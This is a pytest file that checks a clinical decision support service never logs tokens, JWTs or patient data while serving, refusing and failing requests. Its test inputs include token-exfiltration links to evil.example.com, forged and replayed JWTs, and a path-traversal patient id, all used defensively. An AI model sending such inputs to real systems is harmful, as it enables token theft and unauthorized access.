"""Log hygiene (api.py's promise): everything the service logs while it
answers real calls, refuses bad ones, fails FHIR fetches and crashes, holds rule ids and request
ids, and never a token, a JWT, a patient id, a name, a birth date or a card's text.

"Everything": the "cds_service" logger writes JSON lines to stderr through its own handler
(propagate=False), so the capture (1) points that handler's stream at a buffer for the test,
byte for byte what would reach stderr, (2) adds a handler that formats every record, with its
traceback, as the service formats it, to "cds_service" and to the root logger (werkzeug,
urllib3, flask and anything else that propagates), and (3) reads the process's stderr and
stdout at file-descriptor level (capfd) for anything printed.
"""
from __future__ import annotations

import io
import json
import logging
import re
import time
import uuid
from typing import Any

import jwt
import pytest
import responses
from cryptography.hazmat.primitives.asymmetric import ec
from helpers import FIXTURES, SERVICES, persona, request_fixture, searchset

from cds_service import create_app

FHIR = "https://ehr.example.org/fhir"
ACCESS_TOKEN = "at-SECRET-8c1f0e5a-41b2-4d0e-9d7a-7a4f0c3b9e21"
ISSUER = "https://ehr.example.org"
BASE = "http://localhost"
KEY = ec.generate_private_key(ec.SECP384R1())
OTHER_KEY = ec.generate_private_key(ec.SECP384R1())
JWT_PATTERN = re.compile(r"eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]*")
HOOK_FIXTURES = sorted(str(p.relative_to(FIXTURES / "requests")) for p in (FIXTURES / "requests").glob("*/*.json"))
SECRET_COMMENT = "called the patient at home"


def _patients() -> list[dict[str, Any]]:
    found = []
    for path in sorted((FIXTURES / "patients").glob("*.json")):
        bundle = json.loads(path.read_text("utf-8"))
        found += [e["resource"] for e in bundle["entry"] if e["resource"]["resourceType"] == "Patient"]
    return found


PATIENTS = _patients()
PATIENT_IDS = sorted({p["id"] for p in PATIENTS})
NAMES = sorted({" ".join(n.get("given", [])) for p in PATIENTS for n in p.get("name", [])}
               | {n["family"] for p in PATIENTS for n in p.get("name", []) if n.get("family")})
BIRTH_DATES = sorted({p["birthDate"] for p in PATIENTS if p.get("birthDate")})


def _jwk() -> dict[str, Any]:
    jwk = json.loads(jwt.algorithms.ECAlgorithm.to_jwk(KEY.public_key()))
    return {**jwk, "kid": "hygiene-1", "alg": "ES384", "use": "sig"}


def client_jwt(path: str, *, key=KEY, headers: dict | None = None, exp_in: int = 300, iss: str = ISSUER,
               aud: str | None = None, jti: str | None = None) -> str:
    now = int(time.time())
    claims = {"iss": iss, "aud": aud or f"{BASE}{path}", "exp": now + exp_in, "iat": now - 5,
              "jti": jti or str(uuid.uuid4()), "sub": "ehr-client"}
    return jwt.encode(claims, key, algorithm="ES384", headers={"typ": "JWT", "kid": "hygiene-1", **(headers or {})})


def _forged_alg_header(path: str) -> str:
    """A token whose header ``alg`` is itself a JWT: the refusal must not write it down."""
    inner = client_jwt(path)
    header = jwt.utils.base64url_encode(json.dumps({"alg": inner, "typ": "JWT", "kid": "hygiene-1"}).encode())
    body = jwt.utils.base64url_encode(json.dumps({"iss": ISSUER, "aud": f"{BASE}{path}"}).encode())
    return f"{header.decode()}.{body.decode()}.c2ln"


class Capture:
    """Every log line and every byte written to stderr/stdout while active."""

    def __init__(self) -> None:
        from pythonjsonlogger.json import JsonFormatter

        self.stream = io.StringIO()  # what the service's own stderr handler writes
        self.records: list[str] = []
        self.handler = _Collect(self.records, JsonFormatter("{asctime}{levelname}{name}{message}", style="{"))
        self.swapped: list[tuple[logging.StreamHandler, Any]] = []
        self.fd_text = ""

    def __enter__(self) -> "Capture":
        service = logging.getLogger("cds_service")
        for logger in (service, logging.getLogger()):
            for handler in logger.handlers:
                if isinstance(handler, logging.StreamHandler) and not isinstance(handler, logging.FileHandler) \
                        and type(handler).__module__.startswith("logging"):
                    self.swapped.append((handler, handler.setStream(self.stream)))
            logger.addHandler(self.handler)
        assert self.swapped, "the service's stderr handler was not found"
        return self

    def __exit__(self, *exc: Any) -> None:
        for handler, stream in self.swapped:
            handler.setStream(stream)
        for logger in (logging.getLogger("cds_service"), logging.getLogger()):
            logger.removeHandler(self.handler)

    @property
    def service_lines(self) -> list[str]:
        return [line for line in self.stream.getvalue().splitlines() if line.strip()]

    def text(self) -> str:
        """All captured text, raw and with JSON strings decoded (so escapes cannot hide a value)."""
        raw = "\n".join([self.stream.getvalue(), *self.records, self.fd_text])
        decoded = []
        for line in raw.splitlines():
            try:
                decoded.append(json.dumps(json.loads(line), ensure_ascii=False))
            except ValueError:
                pass
        return raw + "\n" + "\n".join(decoded)


class _Collect(logging.Handler):
    def __init__(self, sink: list[str], formatter: logging.Formatter) -> None:
        super().__init__(logging.NOTSET)
        self.sink = sink
        self.setFormatter(formatter)

    def emit(self, record: logging.LogRecord) -> None:
        self.sink.append(self.format(record))


@pytest.fixture
def secure_app(app_config):
    return create_app({**app_config, "AUTH_REQUIRED": True, "OPEN_FHIR_SERVERS": [],
                       "TRUSTED_ISSUERS": {ISSUER: {"keys": [_jwk()]}}, "ISSUER_FHIR_SERVERS": {ISSUER: [FHIR]}})


class Calls:
    """Sends calls with fresh client JWTs and remembers what must, and must not, be in the log."""

    def __init__(self, client) -> None:
        self.client = client
        self.jwts: list[str] = []
        self.logged_request_ids: list[str] = []  # responses whose request id the log must name
        self.described: dict[str, str] = {}
        self.rule_ids: set[str] = set()
        self.card_texts: set[str] = set()
        self.cards: list[tuple[str, dict[str, Any]]] = []

    def post(self, path: str, body: Any = None, *, raw: bytes | None = None, token: str | None = "fresh",
             expect: int | None = None, logged: bool = True):
        if token == "fresh":
            token = client_jwt(path)
        headers = {"Authorization": f"Bearer {token}"} if token else {}
        if token:
            self.jwts.append(token)
        data = raw if raw is not None else json.dumps(body)
        response = self.client.post(path, data=data, content_type="application/json", headers=headers)
        return self._seen(response, expect, logged)

    def get(self, path: str, *, token: str | None = "fresh", expect: int | None = None, logged: bool = True):
        if token == "fresh":
            token = client_jwt(path)
        headers = {"Authorization": f"Bearer {token}"} if token else {}
        if token:
            self.jwts.append(token)
        return self._seen(self.client.get(path, headers=headers), expect, logged)

    def _seen(self, response, expect: int | None, logged: bool):
        if expect is not None:
            assert response.status_code == expect, (response.status_code, response.get_data()[:500])
        assert response.mimetype == "application/json"
        if logged:
            self.logged_request_ids.append(response.headers["X-Request-ID"])
            self.described[response.headers["X-Request-ID"]] = f"{response.request.path} -> {response.status_code}"
        body = response.get_json()
        for card in (body or {}).get("cards", []) if isinstance(body, dict) else []:
            self.rule_ids.add(card["source"]["topic"]["code"])
            self.card_texts |= {card["summary"], *([card["detail"]] if card.get("detail") else [])}
            self.cards.append((response.request.path, card))
        return response


def _with_fhir_access(body: dict[str, Any], drop: tuple[str, ...]) -> dict[str, Any]:
    body["fhirServer"] = FHIR
    body["fhirAuthorization"] = {"access_token": ACCESS_TOKEN, "token_type": "Bearer", "expires_in": 300,
                                 "scope": "patient/*.read", "subject": "cds-back-pain",
                                 "patient": body["context"]["patientId"]}
    for key in drop:
        body.get("prefetch", {}).pop(key, None)
    return body


def _mock_fhir(rsps: responses.RequestsMock) -> None:
    """The FHIR server answers with the persona named in the query (or the read)."""

    def search(resource_type: str):
        def answer(request):
            patient = re.search(r"patient=([^&]+)", request.url)
            name = patient.group(1) if patient else "no-condition-adult"
            if name not in PATIENT_IDS:
                return 404, {}, json.dumps({"resourceType": "OperationOutcome", "issue": []})
            bundle = searchset(persona(name, resource_type))
            return 200, {"Content-Type": "application/fhir+json"}, json.dumps(bundle)
        return answer

    for rtype in ("Condition", "MedicationRequest", "AllergyIntolerance", "Observation"):
        rsps.add_callback(responses.GET, re.compile(rf"{re.escape(FHIR)}/{rtype}\b.*"), callback=search(rtype))

    def read_patient(request):
        return 200, {}, json.dumps(persona(request.url.rsplit("/", 1)[1], "Patient")[0])

    rsps.add_callback(responses.GET, re.compile(rf"{re.escape(FHIR)}/Patient/.*"), callback=read_patient)


def _exercise(client, monkeypatch) -> Calls:
    calls = Calls(client)

    # --- every hook with every fixture; part of the data fetched from a FHIR server with the access token
    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
        _mock_fhir(rsps)
        for name in HOOK_FIXTURES:
            body = _with_fhir_access(request_fixture(name), drop=("conditions", "medications", "patient"))
            calls.post(f"/cds-services/{SERVICES[body['hook']]}", body, expect=200)
        fetched = [c.request for c in rsps.calls]
    assert fetched and all(r.headers["Authorization"] == f"Bearer {ACCESS_TOKEN}" for r in fetched)
    assert calls.rule_ids, "no cards: the fixtures should fire rules"

    # --- FHIR fetch failures: error status with a body that echoes the token, invalid JSON, no connection
    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
        rsps.get(re.compile(rf"{re.escape(FHIR)}/Condition.*"), status=500,
                 body=f"upstream said: token {ACCESS_TOKEN} patient mcas-adult")
        rsps.get(re.compile(rf"{re.escape(FHIR)}/MedicationRequest.*"), status=200, body="{not json mcas-adult")
        # AllergyIntolerance, Observation and Patient: not registered, so the connection fails
        for name in ("patient-view/mcas-adult--chart-open.json", "order-select/mcas-adult--succinylcholine.json"):
            body = _with_fhir_access(request_fixture(name), drop=tuple(request_fixture(name).get("prefetch", {})))
            calls.post(f"/cds-services/{SERVICES[body['hook']]}", body, expect=412)
        body = _with_fhir_access(request_fixture("patient-view/mcas-adult--chart-open.json"),
                                 drop=("medications", "allergies", "observations", "patient"))
        calls.post("/cds-services/back-pain-patient-view", body, expect=200)
        body = _with_fhir_access(request_fixture("order-select/mcas-adult--succinylcholine.json"), drop=())
        body["prefetch"]["conditions"] = {"resourceType": "Bundle", "type": "searchset", "entry": [], "link": [
            {"relation": "next", "url": f"https://evil.example.com/steal?token={ACCESS_TOKEN}&patient=mcas-adult"}]}
        calls.post("/cds-services/back-pain-order-select", body, expect=200)

    # --- feedback on the cards just issued: accepted, and overridden with a free-text comment
    items = []
    for _, card in calls.cards[:6]:
        if card.get("suggestions"):
            items.append({"card": card["uuid"], "outcome": "accepted", "outcomeTimestamp": "2026-11-23T12:00:00Z",
                          "acceptedSuggestions": [{"id": card["suggestions"][0]["uuid"]}]})
        items.append({"card": card["uuid"], "outcome": "overridden", "outcomeTimestamp": "2026-11-23T12:01:00Z",
                      "overrideReason": {"reason": {"code": "other", "system": "http://example.org/reasons"},
                                         "userComment": f"{SECRET_COMMENT}; {NAMES[0]} born {BIRTH_DATES[0]}"}})
    calls.post("/cds-services/back-pain-order-sign/feedback", {"feedback": items}, expect=200)
    calls.get("/cds-services", expect=200, logged=False)

    # --- refusals (400, 404, 413) whose bodies carry the patient's data or the access token
    base = request_fixture("patient-view/mcas-adult--chart-open.json")
    pv = "/cds-services/back-pain-patient-view"
    calls.post(pv, raw=b'{"context": {"patientId": "mcas-adult", "name": "Mcas Adult"', expect=400)
    calls.post(pv, raw=b'{"context": {"patientId": "mcas-adult\xff"}}', expect=400)
    calls.post(pv, raw=b'{"hook": "\\ud800mcas-adult"}', expect=400)
    calls.post(pv, raw=b"[" * 50_000 + b'"mcas-adult"' + b"]" * 50_000, expect=400)
    bad_id = {**base, "context": {**base["context"], "patientId": "mcas-adult/../ms-lbp-adult"}}
    calls.post(pv, bad_id, expect=400)
    wrong_hook = {**base, "hook": "mcas-adult"}
    calls.post(pv, wrong_hook, expect=400)
    calls.post("/cds-services/back-pain-order-sign", base, expect=400)  # hook differs from the service's
    as_list = {**base, "prefetch": {**base["prefetch"], "patient": [base["prefetch"]["patient"]]}}
    calls.post(pv, as_list, expect=400)
    as_text = {**base, "prefetch": {**base["prefetch"], "conditions": json.dumps(base["prefetch"]["conditions"])}}
    calls.post(pv, as_text, expect=400)
    odd_key = {**base, "prefetch": {**base["prefetch"], f"mcas-adult {ACCESS_TOKEN}": "x"}}
    calls.post(pv, odd_key, expect=400)
    bad_auth = {**base, "fhirServer": FHIR, "fhirAuthorization": {"access_token": ACCESS_TOKEN, "token_type": "MAC",
                                                                  "expires_in": 300, "scope": "x", "subject": "y"}}
    calls.post(pv, bad_auth, expect=400)
    numeric_token = {**base, "fhirServer": FHIR, "fhirAuthorization": {
        "access_token": {"value": ACCESS_TOKEN}, "token_type": "Bearer", "expires_in": 300,
        "scope": "x", "subject": "y"}}
    calls.post(pv, numeric_token, expect=400)
    calls.post(pv, {**base, "fhirServer": f"{FHIR}/ {ACCESS_TOKEN}"}, expect=400)
    no_server = {k: v for k, v in base.items() if k != "fhirServer"}
    calls.post(pv, {**no_server, "fhirAuthorization": {"access_token": ACCESS_TOKEN, "token_type": "Bearer",
                                                      "expires_in": 1, "scope": "x", "subject": "y"}}, expect=400)
    calls.post("/cds-services/back-pain-order-sign/feedback",
               {"feedback": [{"card": "mcas-adult", "outcome": "overridden", "outcomeTimestamp": BIRTH_DATES[0],
                              "overrideReason": {"userComment": f"{SECRET_COMMENT} {NAMES[0]}" * 300}}]}, expect=400)
    calls.post("/cds-services/back-pain-order-sign/feedback",
               {"feedback": [{"card": str(uuid.uuid4()), "outcome": "overridden",
                              "outcomeTimestamp": "2026-11-23T12:00:00Z",
                              "overrideReason": {"reason": {"code": f"{NAMES[0]} {BIRTH_DATES[0]}" * 20}}}]},
               expect=400)
    calls.post("/cds-services/mcas-adult", base, expect=404)
    calls.post(f"/cds-services/{ACCESS_TOKEN}/feedback", {"feedback": []}, expect=404)
    calls.get("/rules/mcas-adult", token=None, expect=404)
    huge = {**base, "extension": {"note": "mcas-adult " * 900_000}}
    calls.post(pv, huge, expect=413)

    # --- 401s, each with a JWT in the Authorization header
    for path in ("/cds-services", pv, "/cds-services/back-pain-patient-view/feedback"):
        replayed = client_jwt(path)
        attempts = [
            client_jwt(path, exp_in=-600),  # expired
            client_jwt(path, key=OTHER_KEY),  # bad signature
            client_jwt(path, aud=f"{BASE}/somewhere-else"),  # wrong audience
            client_jwt(path, iss="https://untrusted.example.com"),  # untrusted issuer
            client_jwt(path, headers={"kid": "unknown-kid"}),
            client_jwt(path, headers={"jku": f"https://evil.example.com/jwks?{ACCESS_TOKEN}"}),
            client_jwt(path, headers={"typ": "at+jwt"}),
            _forged_alg_header(path),
            replayed, replayed,
        ]
        for number, token in enumerate(attempts):
            body = base if path != "/cds-services" and "feedback" not in path else {"feedback": []}
            if path == "/cds-services":  # a discovery that gets through is not logged
                response = calls.get(path, token=token, logged=token is not replayed or number != len(attempts) - 2)
            else:
                response = calls.post(path, body, token=token)
            expected = 200 if (token is replayed and number == len(attempts) - 2) else 401
            if path.endswith("feedback") and expected == 200:
                expected = 400  # authenticated, then the empty feedback is refused
            assert response.status_code == expected, (path, number, response.status_code)
        calls.post(pv, base, token=None, expect=401)
        calls.client.post(pv, json=base, headers={"Authorization": f"Basic {replayed}"})

    # --- a bug: an exception whose message carries patient data must not reach the log with it
    import cds_service.core.decision as decision

    def explode(*args: Any, **kwargs: Any) -> Any:
        raise ValueError(f"cannot build cards for mcas-adult born {BIRTH_DATES[0]} token {ACCESS_TOKEN}")

    monkeypatch.setattr(decision, "build_cards", explode)
    calls.post("/cds-services/back-pain-order-sign",
               request_fixture("order-sign/mcas-adult--three-drafts.json"), expect=500)
    monkeypatch.undo()
    return calls


@pytest.fixture
def exercised(secure_app, monkeypatch, capfd):
    client = secure_app.test_client()
    capfd.readouterr()  # start clean: app creation is not part of the calls
    with Capture() as capture:
        calls = _exercise(client, monkeypatch)
    out, err = capfd.readouterr()
    capture.fd_text = out + err
    return capture, calls


def test_logs_name_rule_ids_and_request_ids(exercised):
    capture, calls = exercised
    text = capture.text()
    lines = capture.service_lines
    assert len(lines) >= len(calls.logged_request_ids)
    for line in lines:
        json.loads(line)  # JSON lines, one record per line (tracebacks included)
    missing_rules = sorted(r for r in calls.rule_ids if r not in text)
    assert not missing_rules, missing_rules
    missing_ids = [rid for rid in calls.logged_request_ids if rid not in text]
    assert not missing_ids, [calls.described[rid] for rid in missing_ids]
    for event in ("service call", "feedback", "request refused", "authentication failed", "prefetch fetch failed",
                  "unhandled error"):
        assert f'"message": "{event}"' in text, event


def test_logs_hold_no_token_no_jwt(exercised):
    capture, calls = exercised
    text = capture.text()
    assert ACCESS_TOKEN not in text
    assert ACCESS_TOKEN.split("-", 2)[2] not in text  # not even its tail
    assert calls.jwts
    for token in calls.jwts:
        assert token not in text
        assert token.split(".")[1] not in text  # no claims segment on its own
    assert not JWT_PATTERN.search(text), JWT_PATTERN.search(text).group(0)[:40]


def test_logs_hold_no_patient_data(exercised):
    capture, _ = exercised
    text = capture.text()
    leaks = [pid for pid in PATIENT_IDS if pid in text]
    leaks += [name for name in NAMES if re.search(rf"\b{re.escape(name)}\b", text)]
    leaks += [day for day in BIRTH_DATES if day in text]
    leaks += [SECRET_COMMENT] if SECRET_COMMENT in text else []
    assert not leaks, leaks


def test_logs_hold_no_card_text(exercised):
    capture, calls = exercised
    text = capture.text()
    assert calls.card_texts
    leaked = [t[:60] for t in calls.card_texts if t in text or t[:40] in text]
    assert not leaked, leaked


def test_capture_sees_the_service_stderr_handler(secure_app):
    """Guard for the capture itself: a line the service logs reaches the buffer, not the real stderr."""
    with Capture() as capture:
        logging.getLogger("cds_service.web.api").info("probe", extra={"request_id": "probe-1"})
    assert any('"probe-1"' in line for line in capture.service_lines)
    assert any('"probe-1"' in line for line in capture.records)
